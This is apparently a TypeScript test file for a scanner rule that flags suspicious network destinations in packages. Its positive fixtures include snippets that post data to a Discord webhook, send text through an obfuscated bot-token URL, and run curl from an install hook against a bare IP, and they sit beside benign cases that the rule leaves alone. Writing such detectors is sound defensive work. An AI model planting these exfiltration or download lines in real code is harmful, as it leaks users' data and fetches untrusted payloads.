import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { oddDestination } from "./index.ts";

testDetector(oddDestination, {
  fires: {
    "a mailbox given as host and path": [
      "strong",
      loaded(
        `module.exports = (t) => require("https").request({ hostname: "discord.com", path: "/api/webhooks/112233445566778899/AbCdEfGhIjKl", method: "POST" }).end(t);`,
      ),
    ],
    "a bot's token over a host that is put together": [
      "strong",
      loaded(
        `module.exports = (t) => fetch("htt" + "ps://relay." + "chat.example/bot5938" + "271023:AAGx7Qe1q2w3e4/sendMes" + "sage?text=" + t);`,
      ),
    ],
    "a bare address in a hook": ["strong", hooked("curl http://203.0.113.9/x -o x")],
    "an address written as a number": ["strong", loaded(`require("http").get("http://3405803785/x");`)],
    "an options object": [
      "strong",
      installed(`require("http").request({ host: "203.0.113.9", port: 8000 }).end();`),
    ],
    "an address when it is used": [
      "supporting",
      loaded(`module.exports = () => fetch("http://203.0.113.9/x");`),
    ],
  },
  silent: {
    "a path that only begins like a bot's": loaded(`fetch("https://api.example/bot12345:latest/settings");`),
    "the machine itself": loaded(`fetch("http://127.0.0.1:3000/");`),
    "a private network": loaded(`fetch("http://192.168.1.1/");`),
    "a named host": loaded(`fetch("https://api.example/");`),
    "a version that looks like an address": loaded(`console.log("1.2.3.4");`),
  },
});
